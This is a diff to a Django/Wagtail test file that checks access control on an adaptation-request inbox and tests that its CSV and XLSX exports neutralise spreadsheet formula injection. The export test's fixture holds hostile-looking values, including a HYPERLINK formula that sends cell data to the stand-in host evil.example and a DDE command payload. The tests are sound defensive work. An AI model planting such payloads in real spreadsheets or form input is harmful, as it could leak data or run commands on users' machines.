@@ -5,9 +5,11 @@ import csv
 import io
 import re
 
+import openpyxl
 import pytest
 from django.contrib.auth.models import Group
 from django.core import mail
+from django.test import Client
 from django.urls import reverse
 from wagtail.models import Locale, Page
 
@@ -28,10 +30,18 @@ def action_url(name, adaptation):
 def test_only_administrators_see_or_decide_requests(as_user, make_request, username):
     adaptation = make_request()
     client = as_user(username)
-    for url in (reverse(INDEX), reverse(INSPECT, args=[adaptation.pk])):
-        response = client.get(url, follow=True)  # Wagtail: to the dashboard, with a message
-        assert response.redirect_chain and response.redirect_chain[-1][0] == "/admin/"
-        assert "Red Haitiana" not in response.content.decode()
+    # Every page of the inbox answers 403 (not Wagtail's redirect to the dashboard).
+    for url in (
+        reverse(INDEX),
+        reverse(INDEX) + "?export=csv",
+        reverse("wagtailsnippets_adaptations_adaptationrequest:list_results"),
+        reverse(INSPECT, args=[adaptation.pk]),
+        reverse("wagtailsnippets_adaptations_adaptationrequest:history", args=[adaptation.pk]),
+    ):
+        response = client.get(url)
+        assert response.status_code == 403, url
+        content = b"".join(response.streaming_content) if response.streaming else response.content
+        assert "Red Haitiana" not in content.decode()
     for name, data in (("change_status", {"status": "declined", "note": "No"}),
                        ("accept", {"locale_code": "fr", "note": "Yes"})):  # fmt: skip
         assert client.post(action_url(name, adaptation), data).status_code == 403
@@ -185,3 +195,50 @@ def test_the_project_job_runs_again_in_the_terminal_with_progress(
     assert (job.status, job.done) == (TranslationJob.DONE, job.total)
     assert f"{job.total}/{job.total}" in out.getvalue()
     assert "Locale 'fr' is ready" in out.getvalue()
+
+
+def test_the_export_neutralises_spreadsheet_formulas(as_user, make_request):
+    """Text a requester typed that a spreadsheet would run as a formula (= + - @) is exported as
+    text, in CSV and XLSX alike."""
+    make_request(
+        organisation='=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        contact_name="+cmd|' /C calc'!A0",
+        email="mcjoseph@example.org",
+        timeline="@SUM(1+1)*cmd",
+    )
+    client = as_user("administrador")
+    response = client.get(reverse(INDEX), {"export": "csv"})
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    cells = rows[1]
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
+    assert "'+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)*cmd" in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+    response = client.get(reverse(INDEX), {"export": "xlsx"})
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    values = [cell.value for cell in sheet[2]]
+    assert all(cell.data_type != "f" for cell in sheet[2])  # no formula cell
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in values
+
+
+def test_anonymous_visitors_are_sent_to_sign_in_and_decide_nothing(client, make_request):
+    adaptation = make_request()
+    for url in (reverse(INDEX), reverse(INSPECT, args=[adaptation.pk])):
+        response = client.get(url)
+        assert response.status_code == 302 and "/login/" in response.url
+    response = client.post(action_url("change_status", adaptation), {"status": "declined"})
+    assert response.status_code == 302 and "/login/" in response.url
+    adaptation.refresh_from_db()
+    assert adaptation.status == AdaptationRequest.NEW
+
+
+def test_a_decision_needs_post_and_csrf(user, make_request):
+    adaptation = make_request()
+    client = Client(enforce_csrf_checks=True)
+    client.force_login(user("administrador"))
+    assert client.get(action_url("change_status", adaptation)).status_code == 405
+    response = client.post(
+        action_url("change_status", adaptation), {"status": "declined", "note": "No"}
+    )
+    assert response.status_code == 403
+    adaptation.refresh_from_db()
+    assert adaptation.status == AdaptationRequest.NEW and not adaptation.changes.exists()
